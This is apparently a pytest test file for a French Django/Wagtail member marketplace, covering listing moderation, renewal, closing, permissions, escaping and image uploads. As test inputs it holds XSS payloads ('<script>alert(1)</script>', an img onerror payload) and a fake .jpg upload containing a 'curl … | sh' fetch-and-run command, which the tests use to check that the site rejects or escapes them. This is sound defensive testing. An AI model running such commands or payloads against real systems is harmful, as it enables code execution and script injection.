"""Mes annonces: members post, edit, renew and close listings; nothing is public before approval.

Pages are in French, and the catalogue does not translate these screens yet: the tests check
data, status codes, ids and CSS classes rather than interface sentences.
"""

import datetime
import io
import os

import pytest
from bs4 import BeautifulSoup
from PIL import Image as PILImage

from django.contrib.auth import get_user_model
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from wagtail.images import get_image_model
from wagtail.models import Collection, Page, TaskState, WorkflowState

from cooperation.models import (
    CooperationIndexPage,
    ListingImage,
    ListingPage,
    ListingStatus,
    ListingTerm,
    OfferPage,
    RequestPage,
    ResourceCategory,
)
from directory.models import ContactMessage, StructurePage
from tests.forms import displayed_form_data

from .conftest import make_listing

pytestmark = pytest.mark.django_db

MEMBER_A = "membre-roue-libre"  # member of structure A (roue-libre)
MEMBER_B = "membre-jardins"  # member of structure B (jardins-du-maine)
MODERATOR = "moderation"
EDITOR = "redaction"
LISTINGS = "/fr/espace-membre/annonces/"
SCRIPT = "<script>alert(1)</script>"
Image = get_image_model()


# --------------------------------------------------------------------------- helpers

def user(username: str):
    return get_user_model().objects.get(username=username)


def structure(slug: str) -> StructurePage:
    return StructurePage.objects.get(slug=slug, locale__language_code="fr")


def today() -> datetime.date:
    return timezone.localdate()


def login(client, username: str):
    client.force_login(user(username))
    return client


def other_client(client, username: str):
    return login(client.__class__(), username)


def listing_data(**changes) -> dict:
    data = {
        "title": "Perceuse à colonne à prêter",
        "summary": "Une perceuse d'atelier, à venir chercher à Laval.",
        "description": "Bon état.\n\nPrêt pour une semaine.",
        "category": ResourceCategory.objects.get(locale__language_code="fr", slug="materiel").pk,
        "terms": [ListingTerm.objects.get(code="loan").pk, ListingTerm.objects.get(code="gift").pk],
        "price": "Gratuit",
        "quantity": "1",
        "city": "Laval",
        "territory": "",
        "expires_on": (today() + datetime.timedelta(days=60)).isoformat(),
        "tags": "outillage, atelier",
        "available_from": "",
        "available_until": "",
        "action": "submit",
    }
    data.update(changes)
    return data


def post_new(client, kind: str = "offer", **changes):
    data = listing_data(**changes)
    if "structure" not in data:
        data["structure"] = structure("roue-libre").pk
    return client.post(reverse("members:new_listing", args=[kind]), data)


def created(title: str = "Perceuse à colonne à prêter") -> ListingPage:
    return ListingPage.objects.get(title=title).specific


def form_data(client, listing: ListingPage) -> dict:
    """What the member's browser sends back: the edit form as displayed."""
    response = client.get(reverse("members:edit_listing", args=[listing.pk]))
    assert response.status_code == 200
    return displayed_form_data(response.content)


def edit(client, listing: ListingPage, action: str = "submit", files=None, **changes):
    data = form_data(client, listing)
    data.update(changes, action=action)
    if files:
        data["new_images"] = files
    return client.post(reverse("members:edit_listing", args=[listing.pk]), data)


def pending_task(page) -> TaskState:
    return WorkflowState.objects.active().for_instance(page).get().current_task_state


def admin_action(client, page, action: str, comment: str = ""):
    task = pending_task(page)
    url = reverse("wagtailadmin_pages:workflow_action", args=[page.pk, action, task.pk])
    return client.post(url, {"comment": comment} if comment else {})


def rows(client) -> dict[int, BeautifulSoup]:
    response = client.get(LISTINGS)
    assert response.status_code == 200
    soup = BeautifulSoup(response.content, "html.parser")
    return {int(row["id"].split("-")[1]): row for row in soup.select("tr.listing-row")}


def live_listing_of(slug: str) -> ListingPage:
    """An open, published demo listing of this structure."""
    owner = structure(slug)
    return (
        ListingPage.objects.open().filter(structure=owner, locale_id=owner.locale_id)
        .exclude(expires_on__lte=today() + datetime.timedelta(days=7))
        .order_by("pk").first().specific
    )


def public_text(client, url: str) -> str:
    return client.get(url).content.decode()


def api_titles(client, kind: str = "cooperation.OfferPage") -> list[str]:
    data = client.get(f"/api/v2/pages/?type={kind}&limit=100&fields=title").json()
    return [item["title"] for item in data["items"]]


def api_ids(client, kind: str = "cooperation.OfferPage") -> list[int]:
    data = client.get(f"/api/v2/pages/?type={kind}&limit=100").json()
    return [item["id"] for item in data["items"]]


def png(width: int = 400, height: int = 300, name: str = "photo.png", mode: str = "RGB"):
    buffer = io.BytesIO()
    PILImage.new(mode, (width, height), "white" if mode == "RGB" else 1).save(buffer, "PNG")
    return SimpleUploadedFile(name, buffer.getvalue(), content_type="image/png")


# --------------------------------------------------------------------------- posting

def test_the_forms_are_accessible_and_limited_to_the_members_structures(client):
    login(client, MEMBER_A)
    response = client.get(reverse("members:new_listing", args=["offer"]))
    assert response.status_code == 200
    soup = BeautifulSoup(response.content, "html.parser")
    form = soup.find("form", method="post")
    assert form["enctype"] == "multipart/form-data"
    # Every visible input has a label; checkboxes and radios sit in a fieldset with a legend.
    for field in form.find_all(["input", "textarea", "select"]):
        if field.get("type") in ("hidden", "submit", "checkbox", "radio"):
            continue
        assert form.find("label", attrs={"for": field["id"]}), field["name"]
    terms = soup.find("input", attrs={"name": "terms"}).find_parent("fieldset")
    assert terms.find("legend")
    assert soup.find("input", attrs={"name": "new_images", "type": "file"}).has_attr("multiple")
    assert [o["value"] for o in soup.select("select[name=structure] option")] == [
        str(structure("roue-libre").pk)
    ]
    assert soup.find("input", attrs={"name": "available_from"})
    assert {b["value"] for b in form.select("button[name=action]")} == {"draft", "submit"}
    request = client.get(reverse("members:new_listing", args=["request"]))
    assert BeautifulSoup(request.content, "html.parser").find("input", attrs={"name": "needed_by"})
    assert client.get(reverse("members:new_listing", args=["gift"])).status_code == 404


def test_a_draft_then_a_submission_publish_nothing_until_approval(client):
    a = structure("roue-libre")
    index = CooperationIndexPage.objects.get(locale__language_code="fr")
    login(client, MEMBER_A)
    response = post_new(client, action="draft")
    assert response.status_code == 302
    assert response.url == LISTINGS
    listing = created()
    assert isinstance(listing, OfferPage)
    assert listing.get_parent().pk == index.pk
    assert listing.structure == a and listing.contact_member == user(MEMBER_A)
    assert not listing.live and listing.first_published_at is None
    assert listing.latest_revision_id is not None
    assert not WorkflowState.objects.for_instance(listing).exists()
    assert sorted(term.code for term in listing.terms.all()) == ["gift", "loan"]
    assert sorted(tag.name for tag in listing.tags.all()) == ["atelier", "outillage"]
    assert listing.expires_on == today() + datetime.timedelta(days=60)
    assert rows(client)[listing.pk]["data-state"] == "draft"

    # The member sends it for moderation from the edit form.
    assert edit(client, listing, action="submit").status_code == 302
    assert pending_task(listing).status == TaskState.STATUS_IN_PROGRESS
    assert rows(client)[listing.pk]["data-state"] == "in_moderation"

    # Nowhere public: the listing's URL, the marketplace, the structure's page, the API, search.
    visitor = client.__class__()
    listing.refresh_from_db()
    assert not listing.live
    assert visitor.get(listing.url or f"{index.url}{listing.slug}/").status_code == 404
    assert visitor.get(f"/fr/cooperation/{listing.slug}/").status_code == 404
    assert listing.title not in public_text(visitor, index.url)
    assert listing.title not in public_text(visitor, a.url)
    assert listing.title not in api_titles(visitor)
    assert listing.title not in public_text(visitor, "/fr/recherche/?q=perceuse")
    # Nor in another language (an alias made by the locale synchronisation, if any).
    assert not Page.objects.live().filter(title=listing.title).exists()
    assert listing.title not in public_text(visitor, "/en/cooperation/")


def test_a_request_is_created_with_its_needed_by_date(client):
    login(client, MEMBER_A)
    needed_by = (today() + datetime.timedelta(days=20)).isoformat()
    response = post_new(client, "request", title="Recherche une bétonnière", needed_by=needed_by)
    assert response.status_code == 302
    listing = created("Recherche une bétonnière")
    assert isinstance(listing, RequestPage) and listing.kind == "request"
    assert listing.needed_by.isoformat() == needed_by
    assert not listing.live


@pytest.mark.parametrize("approver", [MODERATOR, EDITOR])
def test_approval_publishes_the_listing_and_tells_the_member(client, approver):
    login(client, MEMBER_A)
    post_new(client)
    listing = created()
    mail.outbox.clear()
    assert admin_action(other_client(client, approver), listing, "approve").status_code == 302
    listing.refresh_from_db()
    assert listing.live and listing.is_open
    visitor = client.__class__()
    assert visitor.get(listing.url).status_code == 200
    assert listing.title in public_text(visitor, "/fr/cooperation/")
    assert listing.title in api_titles(visitor)
    assert rows(client)[listing.pk]["data-state"] == "published"
    (message,) = [m for m in mail.outbox if m.to == [user(MEMBER_A).email]]
    assert listing.title in message.subject
    assert listing.url in message.body


def test_rejection_keeps_the_live_version_and_sends_the_comment(client):
    listing = live_listing_of("roue-libre")
    live_summary = listing.summary
    login(client, MEMBER_A)
    assert edit(client, listing, summary="Résumé refusé par l'équipe.").status_code == 302
    mail.outbox.clear()
    admin_action(other_client(client, EDITOR), listing, "reject", "Précisez les horaires.")
    listing.refresh_from_db()
    assert listing.live and listing.summary == live_summary
    page = public_text(client.__class__(), listing.url)
    assert escape(live_summary) in page and "Résumé refusé" not in page  # HTML: d&#x27;…
    row = rows(client)[listing.pk]
    assert row["data-state"] == "rejected"
    assert "Précisez les horaires." in row.select_one(".state__comment").get_text()
    (message,) = mail.outbox
    assert message.to == [user(MEMBER_A).email]
    assert "Précisez les horaires." in message.body
    # Corrected and sent again: a new moderation starts.
    assert edit(client, listing, summary="Le mardi de 9 h à 12 h.").status_code == 302
    assert pending_task(listing).status == TaskState.STATUS_IN_PROGRESS


def test_editing_a_live_listing_changes_nothing_until_approval(client):
    listing = live_listing_of("roue-libre")
    old_title = listing.title
    login(client, MEMBER_A)
    response = edit(client, listing, title="Titre corrigé", summary="Résumé corrigé.")
    assert response.status_code == 302
    listing.refresh_from_db()
    assert listing.title == old_title and listing.live
    visitor = client.__class__()
    assert "Résumé corrigé." not in public_text(visitor, listing.url)
    row = rows(client)[listing.pk]
    assert row["data-state"] == "in_moderation"
    assert row.select_one(".listing-row__title").get_text(strip=True) == "Titre corrigé"
    admin_action(other_client(client, MODERATOR), listing, "approve")
    listing.refresh_from_db()
    assert listing.title == "Titre corrigé"
    assert "Résumé corrigé." in public_text(visitor, listing.url)


def test_saving_a_draft_of_a_live_listing_keeps_it_online_and_sends_nothing(client):
    listing = live_listing_of("roue-libre")
    login(client, MEMBER_A)
    assert edit(client, listing, action="draft", summary="Brouillon.").status_code == 302
    listing.refresh_from_db()
    assert listing.live and listing.summary != "Brouillon."
    assert not WorkflowState.objects.active().for_instance(listing).exists()
    row = rows(client)[listing.pk]
    assert row["data-state"] == "published"
    assert row.select_one(".state__note")


def test_the_end_date_is_at_most_one_year_away_and_not_past(client):
    login(client, MEMBER_A)
    count = ListingPage.objects.count()
    too_late = (today() + datetime.timedelta(days=366)).isoformat()
    response = post_new(client, expires_on=too_late)
    assert response.status_code == 400
    soup = BeautifulSoup(response.content, "html.parser")
    assert soup.select_one("#id_expires_on_error [role=alert], #id_expires_on_error")
    assert soup.find("input", attrs={"name": "expires_on"})["aria-invalid"] == "true"
    # The model's message (the catalogue translates it with the model's strings).
    assert "one year" in response.content.decode() or "un an" in response.content.decode()
    past = (today() - datetime.timedelta(days=1)).isoformat()
    assert post_new(client, expires_on=past).status_code == 400
    assert ListingPage.objects.count() == count
    # The default: 90 days.
    page = BeautifulSoup(client.get("/fr/espace-membre/annonces/nouvelle/offer/").content,
                         "html.parser")
    default = (today() + datetime.timedelta(days=90)).isoformat()
    assert page.find("input", attrs={"name": "expires_on"})["value"] == default


def test_availability_must_end_after_it_starts(client):
    login(client, MEMBER_A)
    response = post_new(
        client, available_from=(today() + datetime.timedelta(days=10)).isoformat(),
        available_until=(today() + datetime.timedelta(days=5)).isoformat(),
    )
    assert response.status_code == 400
    soup = BeautifulSoup(response.content, "html.parser")
    assert soup.find("input", attrs={"name": "available_until"})["aria-invalid"] == "true"
    assert not ListingPage.objects.filter(title="Perceuse à colonne à prêter").exists()


def test_the_listings_are_under_the_english_member_area_too(client):
    login(client, MEMBER_A)
    assert client.get("/en/member-area/annonces/").status_code == 200
    home = client.get("/fr/espace-membre/").content.decode()
    assert 'href="/fr/espace-membre/annonces/"' in home


# --------------------------------------------------------------------------- renew and close

def expire_soon(listing: ListingPage, days: int) -> ListingPage:
    listing.expires_on = today() + datetime.timedelta(days=days)
    listing.save()  # also sets Wagtail's expire_at
    return listing


def test_renewing_an_expiring_listing_publishes_it_directly(client):
    listing = expire_soon(live_listing_of("roue-libre"), 3)
    listing.reminder_sent_on = today()
    listing.save()
    login(client, MEMBER_A)
    assert rows(client)[listing.pk]["data-state"] == "expiring"
    response = client.post(reverse("members:renew_listing", args=[listing.pk]))
    assert response.status_code == 302
    listing.refresh_from_db()
    new_end = today() + datetime.timedelta(days=90)
    assert listing.expires_on == new_end and listing.reminder_sent_on is None
    assert timezone.localtime(listing.expire_at).date() == new_end + datetime.timedelta(days=1)
    assert listing.live and not WorkflowState.objects.active().for_instance(listing).exists()
    assert listing.get_latest_revision_as_object().expires_on == new_end
    assert rows(client)[listing.pk]["data-state"] == "published"
    # A GET (the address opened in a browser) renews nothing: it leads to Mes annonces.
    assert client.get(reverse("members:renew_listing", args=[listing.pk])).status_code == 302
    listing.refresh_from_db()
    assert listing.expires_on == new_end


def test_an_expired_listing_comes_back_online_when_renewed(client):
    listing = expire_soon(live_listing_of("roue-libre"), -2)
    call_command("publish_scheduled", verbosity=0)  # Wagtail's expiry job
    listing.refresh_from_db()
    assert not listing.live and listing.expired
    visitor = client.__class__()
    assert visitor.get(f"/fr/cooperation/{listing.slug}/").status_code == 404
    login(client, MEMBER_A)
    assert rows(client)[listing.pk]["data-state"] == "expired"
    client.post(reverse("members:renew_listing", args=[listing.pk]))
    listing.refresh_from_db()
    assert listing.live and not listing.expired
    assert listing.expires_on == today() + datetime.timedelta(days=90)
    assert visitor.get(listing.url).status_code == 200


def test_renewing_keeps_the_pending_changes_in_moderation_with_the_new_date(client):
    listing = expire_soon(live_listing_of("roue-libre"), 2)
    live_summary = listing.summary
    login(client, MEMBER_A)
    edit(client, listing, summary="Changement en attente.")
    client.post(reverse("members:renew_listing", args=[listing.pk]))
    listing.refresh_from_db()
    new_end = today() + datetime.timedelta(days=90)
    assert listing.summary == live_summary and listing.expires_on == new_end
    assert pending_task(listing).status == TaskState.STATUS_IN_PROGRESS
    admin_action(other_client(client, EDITOR), listing, "approve")
    listing.refresh_from_db()
    assert listing.summary == "Changement en attente." and listing.expires_on == new_end


def test_a_listing_far_from_its_end_is_not_renewed(client):
    listing = live_listing_of("roue-libre")
    before = (listing.expires_on, listing.latest_revision_id)
    login(client, MEMBER_A)
    assert "action--renew" not in str(rows(client)[listing.pk])
    client.post(reverse("members:renew_listing", args=[listing.pk]))
    listing.refresh_from_db()
    assert (listing.expires_on, listing.latest_revision_id) == before


def test_closing_as_fulfilled_unpublishes_and_keeps_it_in_the_member_space(client):
    listing = live_listing_of("roue-libre")
    b = structure("jardins-du-maine")
    login(client, MEMBER_A)
    response = client.get(reverse("members:close_listing", args=[listing.pk]))
    partners = BeautifulSoup(response.content, "html.parser").select(
        "select[name=partner_structure] option"
    )
    assert str(b.pk) in [o["value"] for o in partners]
    assert str(listing.structure_id) not in [o["value"] for o in partners]
    response = client.post(reverse("members:close_listing", args=[listing.pk]), {
        "status": "fulfilled", "partner_structure": b.pk, "estimated_value": "250",
        "hours_saved": "6.5",
    })
    assert response.status_code == 302
    listing.refresh_from_db()
    assert listing.status == ListingStatus.FULFILLED and not listing.live
    assert listing.closed_on == today() and listing.partner_structure_id == b.pk
    assert listing.estimated_value == 250 and float(listing.hours_saved) == 6.5
    visitor = client.__class__()
    assert visitor.get(f"/fr/cooperation/{listing.slug}/").status_code == 410  # "it is closed"
    assert f'/fr/cooperation/{listing.slug}/"' not in public_text(visitor, "/fr/cooperation/")
    assert listing.pk not in api_ids(visitor)
    aliases = ListingPage.objects.filter(alias_of=listing)
    assert not aliases.filter(live=True).exists()
    assert all(alias.status == ListingStatus.FULFILLED for alias in aliases)
    row = rows(client)[listing.pk]
    assert row["data-state"] == "fulfilled"
    assert b.title in row.get_text()
    assert not row.select(".action--edit, .action--renew, .action--close")
    assert client.get(reverse("members:edit_listing", args=[listing.pk])).status_code == 403
    assert client.get(reverse("members:close_listing", args=[listing.pk])).status_code == 403


def test_closing_as_withdrawn_ignores_the_figures_and_cancels_moderation(client):
    listing = live_listing_of("roue-libre")
    login(client, MEMBER_A)
    edit(client, listing, summary="En attente.")
    response = client.post(reverse("members:close_listing", args=[listing.pk]), {
        "status": "withdrawn", "partner_structure": structure("jardins-du-maine").pk,
        "estimated_value": "100",
    })
    assert response.status_code == 302
    listing.refresh_from_db()
    assert listing.status == ListingStatus.WITHDRAWN and not listing.live
    assert listing.partner_structure is None and listing.estimated_value is None
    assert not WorkflowState.objects.active().for_instance(listing).exists()
    assert rows(client)[listing.pk]["data-state"] == "withdrawn"


def test_negative_figures_are_refused(client):
    listing = live_listing_of("roue-libre")
    login(client, MEMBER_A)
    response = client.post(reverse("members:close_listing", args=[listing.pk]), {
        "status": "fulfilled", "estimated_value": "-5", "hours_saved": "-1",
    })
    assert response.status_code == 400
    soup = BeautifulSoup(response.content, "html.parser")
    assert soup.select_one("#id_estimated_value_error") and soup.select_one("#id_hours_saved_error")
    listing.refresh_from_db()
    assert listing.status == ListingStatus.OPEN and listing.live


def test_mes_annonces_shows_every_state(client):
    for number in range(5):  # the demo's Roue Libre has fewer open listings than states
        make_listing(f"zorglubetat{number}", structure="roue-libre")
    login(client, MEMBER_A)
    states = {}
    post_new(client, title="Annonce brouillon", action="draft")
    states["draft"] = created("Annonce brouillon")
    post_new(client, title="Annonce en attente")
    states["in_moderation"] = created("Annonce en attente")
    post_new(client, title="Annonce refusée")
    states["rejected"] = created("Annonce refusée")
    admin_action(other_client(client, EDITOR), states["rejected"], "reject", "Trop vague.")
    a = structure("roue-libre")
    open_listings = list(
        ListingPage.objects.open().filter(structure=a, locale_id=a.locale_id)
        .exclude(expires_on__lte=today() + datetime.timedelta(days=7)).order_by("pk")
    )
    states["published"] = open_listings[0]
    states["expiring"] = expire_soon(open_listings[1].specific, 5)
    states["expired"] = expire_soon(open_listings[2].specific, -1)
    call_command("publish_scheduled", verbosity=0)
    for code, page in (("fulfilled", open_listings[3]), ("withdrawn", open_listings[4])):
        client.post(reverse("members:close_listing", args=[page.pk]), {"status": code})
        states[code] = page
    table = rows(client)
    assert {code: table[page.pk]["data-state"] for code, page in states.items()} == {
        code: code for code in states
    }
    assert "Trop vague." in table[states["rejected"].pk].get_text()
    # Only A's listings, each once.
    assert set(table) == set(
        ListingPage.objects.filter(structure=a, locale_id=a.locale_id).values_list("pk", flat=True)
    )


# --------------------------------------------------------------------------- responses

def test_responses_are_shown_to_the_members_of_the_structure_only(client):
    listing = live_listing_of("roue-libre")
    visitor = client.__class__()
    response = visitor.post(listing.url, {
        "name": "Claire <b>Martin</b>", "email": "claire@example.org",
        "message": f"Bonjour, nous serions intéressés. {SCRIPT}", "nickname": "",
    })
    assert response.status_code == 302
    assert ContactMessage.objects.filter(page=listing).count() == 1
    login(client, MEMBER_A)
    page = client.get(LISTINGS).content.decode()
    row = rows(client)[listing.pk]
    (response_item,) = row.select(".response")
    assert response_item.select_one(".response__name").get_text() == "Claire <b>Martin</b>"
    assert response_item.select_one(".response__email").get_text() == "claire@example.org"
    assert response_item.select_one(".response__date")["datetime"]
    assert SCRIPT in response_item.select_one(".response__message").get_text()
    assert SCRIPT not in page and "&lt;script&gt;" in page
    other = other_client(client, MEMBER_B)
    assert "claire@example.org" not in other.get(LISTINGS).content.decode()


# --------------------------------------------------------------------------- escaping

def test_html_in_a_listing_is_shown_as_text(client):
    login(client, MEMBER_A)
    post_new(client, title=f"Titre {SCRIPT}", summary=f"Résumé {SCRIPT}",
             description=f"Description {SCRIPT}\n\n<img src=x onerror=alert(2)>",
             price=SCRIPT, city=SCRIPT, tags='"<b>gras</b>"')
    listing = created(f"Titre {SCRIPT}")
    admin_action(other_client(client, EDITOR), listing, "approve")
    listing.refresh_from_db()
    edit_form = reverse("members:edit_listing", args=[listing.pk])
    for html in (public_text(client.__class__(), listing.url), public_text(client, LISTINGS),
                 public_text(client, edit_form)):
        assert SCRIPT not in html
        assert "<img src=x" not in html and "<b>gras</b>" not in html
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


# --------------------------------------------------------------------------- images

def test_images_are_stored_in_the_annonces_collection(client):
    login(client, MEMBER_A)
    data = listing_data(structure=structure("roue-libre").pk, action="draft")
    data["new_images"] = [png(name="atelier.png"), png(800, 600, name="perceuse.png")]
    response = client.post(reverse("members:new_listing", args=["offer"]), data)
    assert response.status_code == 302
    listing = created()
    items = list(ListingImage.objects.filter(page=listing).order_by("sort_order"))
    assert len(items) == 2
    # A draft's images wait in the private collection (tests/cooperation/test_listing_images.py).
    collection = Collection.objects.get(name="Annonces en attente de validation")
    assert all(item.image.collection_id == collection.pk for item in items)
    assert items[1].image.width == 800 and items[1].image.file_size > 0
    assert items[0].image.uploaded_by_user == user(MEMBER_A)
    # On the edit form: remove one, describe the other, add two more (4 at most).
    first, second = items
    response = edit(client, listing, action="draft", files=[png(), png()], **{
        f"remove_image_{first.image_id}": "on",
        f"alt_text_{second.image_id}": "Une perceuse rouge",
    })
    assert response.status_code == 302
    listing.refresh_from_db()
    draft = listing.get_latest_revision_as_object()
    kept = list(draft.images.all())
    assert len(kept) == 3 and kept[0].image_id == second.image_id
    assert kept[0].alt_text == "Une perceuse rouge"
    # A fifth would be one too many.
    response = edit(client, listing, action="draft", files=[png(), png()])
    assert response.status_code == 400
    assert BeautifulSoup(response.content, "html.parser").select_one("#id_new_images_error")


def lying_script():
    return SimpleUploadedFile(
        "photo.jpg", b"#!/bin/sh\ncurl http://example.org/x | sh\n", content_type="image/jpeg"
    )


def huge_png():
    """A real 20 MB image (random pixels do not compress)."""
    buffer = io.BytesIO()
    PILImage.frombytes("RGB", (2600, 2600), os.urandom(2600 * 2600 * 3)).save(
        buffer, "PNG", compress_level=0
    )
    assert buffer.tell() > 20_000_000
    return SimpleUploadedFile("grande.png", buffer.getvalue(), content_type="image/png")


UPLOADS = {
    "not an image": lambda: [SimpleUploadedFile("notes.txt", b"hello", content_type="text/plain")],
    "script named .jpg": lambda: [lying_script()],
    "20 MB": lambda: [huge_png()],
    "10000 x 10000 px": lambda: [png(10000, 10000, name="bombe.png", mode="1")],
    "too small": lambda: [png(50, 50)],
    "5 images": lambda: [png(name=f"{n}.png") for n in range(5)],
}


@pytest.mark.parametrize("case", list(UPLOADS))
def test_bad_uploads_are_refused_with_a_form_error_and_nothing_is_stored(client, case):
    login(client, MEMBER_A)
    images, listings = Image.objects.count(), ListingPage.objects.count()
    data = listing_data(structure=structure("roue-libre").pk)
    data["new_images"] = UPLOADS[case]()
    response = client.post(reverse("members:new_listing", args=["offer"]), data)
    assert response.status_code == 400
    error = BeautifulSoup(response.content, "html.parser").select_one("#id_new_images_error")
    assert error and error.get_text(strip=True)
    assert (Image.objects.count(), ListingPage.objects.count()) == (images, listings)
    if case == "script named .jpg":
        assert "photo.jpg" in error.get_text()
        assert "image valide" in error.get_text()  # Django's French message


# --------------------------------------------------------------------------- who may do what

ACTORS = ["anonymous", MEMBER_A, MEMBER_B, MODERATOR, EDITOR]
ACTIONS = ["create", "edit", "close", "renew", "see responses", "approve"]
ALLOWED = {
    MEMBER_A: {"create", "edit", "close", "renew", "see responses"},
    MODERATOR: {"approve"},
    EDITOR: {"approve"},
}
RESPONSE_TEXT = "Réponse confidentielle de test"


@pytest.mark.parametrize("action", ACTIONS)
@pytest.mark.parametrize("actor", ACTORS)
def test_permission_table(client, actor, action):
    a = structure("roue-libre")
    listing = expire_soon(live_listing_of("roue-libre"), 3)  # renewable
    ContactMessage.objects.create(
        structure=a, page=listing, sender_name="Test", sender_email="test@example.org",
        message=RESPONSE_TEXT,
    )
    # A change by A's member waits for approval.
    edit(other_client(client, MEMBER_A), listing, summary="Changement en attente.")
    listing.refresh_from_db()
    before = {
        "pages": ListingPage.objects.count(), "revision": listing.latest_revision_id,
        "summary": listing.summary, "status": listing.status, "live": listing.live,
        "expires_on": listing.expires_on,
    }
    if actor != "anonymous":
        login(client, actor)
    allowed = action in ALLOWED.get(actor, set())

    if action == "create":
        response = post_new(client, title="Annonce pirate", structure=a.pk)
        assert (ListingPage.objects.count() == before["pages"] + 1) is allowed
    elif action == "edit":
        url = reverse("members:edit_listing", args=[listing.pk])
        data = listing_data(summary="Piratage")
        response = client.post(url, data)
        listing.refresh_from_db()
        changed = listing.get_latest_revision_as_object().summary == "Piratage"
        assert changed is allowed
    elif action == "close":
        response = client.post(
            reverse("members:close_listing", args=[listing.pk]), {"status": "withdrawn"}
        )
        listing.refresh_from_db()
        assert (listing.status == ListingStatus.WITHDRAWN) is allowed
    elif action == "renew":
        response = client.post(reverse("members:renew_listing", args=[listing.pk]))
        listing.refresh_from_db()
        assert (listing.expires_on == today() + datetime.timedelta(days=90)) is allowed
    elif action == "see responses":
        response = client.get(LISTINGS)
        assert (RESPONSE_TEXT in response.content.decode()) is allowed
        if actor == "anonymous":
            assert response.status_code == 302 and "connexion" in response.url
        else:
            assert response.status_code == 200
        return
    else:
        response = admin_action(client, listing, "approve")
        listing.refresh_from_db()
        assert (listing.summary == "Changement en attente.") is allowed

    if allowed:
        assert response.status_code == 302
        return
    assert response.status_code in (302, 403)
    if response.status_code == 302:  # to a login page
        assert "connexion" in response.url or "login" in response.url
    listing.refresh_from_db()
    assert {
        "pages": ListingPage.objects.count(), "revision": listing.latest_revision_id,
        "summary": listing.summary, "status": listing.status, "live": listing.live,
        "expires_on": listing.expires_on,
    } == before


def test_a_member_cannot_post_for_another_structure(client):
    login(client, MEMBER_B)
    count = ListingPage.objects.count()
    response = post_new(client, structure=structure("roue-libre").pk)
    assert response.status_code == 403
    url = reverse("members:new_listing", args=["offer"])
    assert client.get(f"{url}?structure={structure('roue-libre').pk}").status_code == 403
    assert ListingPage.objects.count() == count
    # Its own structure is fine.
    assert post_new(client, structure=structure("jardins-du-maine").pk).status_code == 302


def test_the_member_is_told_by_email_only_for_its_listings_workflow(client):
    """The directory's profile e-mails still work beside the listings' ones."""
    login(client, MEMBER_A)
    post_new(client)
    listing = created()
    mail.outbox.clear()
    admin_action(other_client(client, EDITOR), listing, "reject", "Non.")
    (message,) = mail.outbox
    assert listing.title in message.subject and "/fr/espace-membre/annonces/" in message.body


@pytest.mark.parametrize("kind", ["offer", "request"])
def test_the_resource_category_has_no_default_and_must_be_chosen(client, kind):
    login(client, MEMBER_A)
    url = reverse("members:new_listing", args=[kind])
    page = BeautifulSoup(client.get(url).content, "html.parser")
    options = page.select("select[name=category] option")
    assert options[0]["value"] == "" and options[0].get_text(strip=True) == "— choisir —"
    assert [o["value"] for o in page.select("select[name=category] option[selected]")] in (
        [], [""])
    pages = ListingPage.objects.count()
    response = post_new(client, kind, category="")
    assert response.status_code == 400
    error = BeautifulSoup(response.content, "html.parser").find(id="id_category_error")
    assert error is not None and "Choisissez une catégorie de ressource" in error.get_text()
    assert ListingPage.objects.count() == pages


def test_posting_the_same_new_listing_form_three_times_creates_one_listing(client):
    """A double click, a reload, a retry: the form's one-time token leads to the listing
    already created."""
    login(client, MEMBER_A)
    url = reverse("members:new_listing", args=["offer"])
    shown = displayed_form_data(client.get(url).content)
    assert shown["submission_token"]
    data = {**shown, **listing_data(structure=structure("roue-libre").pk,
                                    title="Bétonnière à prêter")}
    pages, workflows = ListingPage.objects.count(), WorkflowState.objects.count()
    first = client.post(url, data)
    assert first.status_code == 302 and first.url == LISTINGS
    again = [client.post(url, data) for _ in range(2)]
    assert ListingPage.objects.count() == pages + 1
    assert WorkflowState.objects.count() == workflows + 1
    listing = created("Bétonnière à prêter")
    for response in again:
        assert response.status_code == 302
        assert response.url == f"{LISTINGS}#listing-{listing.pk}"
    page = BeautifulSoup(client.get(LISTINGS).content, "html.parser")
    assert "déjà été envoyée" in page.select_one(".messages").get_text()
    titles = [row.select_one(".listing-row__title").get_text() for row in
              page.select("tr.listing-row")]
    assert titles.count("Bétonnière à prêter") == 1


def test_a_form_with_errors_keeps_its_token_and_still_makes_one_listing(client):
    login(client, MEMBER_A)
    url = reverse("members:new_listing", args=["offer"])
    token = displayed_form_data(client.get(url).content)["submission_token"]
    refused = client.post(url, listing_data(structure=structure("roue-libre").pk,
                                            title="", submission_token=token))
    assert refused.status_code == 400
    assert displayed_form_data(refused.content)["submission_token"] == token
    data = listing_data(structure=structure("roue-libre").pk, title="Remorque à vélo",
                        submission_token=token)
    assert client.post(url, data).status_code == 302
    assert client.post(url, data).status_code == 302
    assert ListingPage.objects.filter(title="Remorque à vélo").count() == 1
    other = displayed_form_data(client.get(url).content)["submission_token"]
    assert other != token  # a new form, a new listing


def test_a_stale_listing_edit_saves_nothing_and_shows_both_versions(client):
    listing = live_listing_of("roue-libre")
    first = login(client, MEMBER_A)
    second = other_client(client, MEMBER_A)  # another browser, or another member
    first_form, second_form = form_data(first, listing), form_data(second, listing)
    first_form.update(price="10 € la journée", action="draft")
    url = reverse("members:edit_listing", args=[listing.pk])
    assert first.post(url, first_form).status_code == 302
    listing.refresh_from_db()
    saved_revision = listing.latest_revision_id

    second_form.update(price="Gratuit pour les adhérents",
                       description="Un long texte\n\nque rien ne doit perdre.", action="submit")
    response = second.post(url, second_form)
    assert response.status_code == 409
    listing.refresh_from_db()
    assert listing.latest_revision_id == saved_revision
    assert listing.get_latest_revision_as_object().price == "10 € la journée"
    assert not WorkflowState.objects.active().for_instance(listing).exists()
    page = BeautifulSoup(response.content, "html.parser")
    conflict = page.select_one("[data-conflict]")
    assert "Comparez les deux versions" in conflict.get_text()
    rows = {row["data-field-label"]: row for row in conflict.select("tr[data-field-label]")}
    price = rows["Prix ou participation"]
    assert price.select_one(".conflict-saved").get_text() == "10 € la journée"
    assert price.select_one(".conflict-typed").get_text() == "Gratuit pour les adhérents"
    shown = displayed_form_data(response.content)
    assert shown["price"] == "Gratuit pour les adhérents"
    assert shown["description"] == "Un long texte\n\nque rien ne doit perdre."
    assert shown["base_revision"] == str(saved_revision)
    shown["action"] = "submit"
    assert second.post(url, shown).status_code == 302
    listing.refresh_from_db()
